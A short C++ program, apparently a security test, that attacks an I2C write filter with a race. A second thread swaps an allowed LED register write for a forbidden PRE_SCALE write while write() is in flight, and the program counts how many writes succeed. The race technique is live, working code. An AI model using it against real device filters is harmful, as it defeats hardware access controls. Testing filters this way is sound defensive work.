// Attack: rewrite the buffer of a write() from a second thread while the
// call is in flight, hoping the bytes checked differ from the bytes sent.
// Allowed: [0x06, 0x10] (LED0_ON_L). Forbidden: [0xFE, 0x03] (PRE_SCALE).
#include <fcntl.h>
#include <unistd.h>

#include <atomic>
#include <cstdio>
#include <linux/i2c-dev.h>
#include <sys/ioctl.h>
#include <thread>

int main() {
  int fd = open("/dev/i2c-1", O_RDWR);
  if (fd < 0 || ioctl(fd, I2C_SLAVE, 0x40) != 0) return 2;
  alignas(8) static volatile unsigned char buf[2] = {0x06, 0x10};
  std::atomic<bool> stop{false};
  std::thread flipper([&] {
    while (!stop.load(std::memory_order_relaxed)) {
      buf[0] = 0xFE;
      buf[1] = 0x03;
      buf[0] = 0x06;
      buf[1] = 0x10;
    }
  });
  int ok = 0;
  for (int i = 0; i < 2000; ++i) {
    if (write(fd, const_cast<unsigned char*>(buf), 2) == 2) ++ok;
  }
  stop = true;
  flipper.join();
  std::printf("%d\n", ok);
  return 0;
}
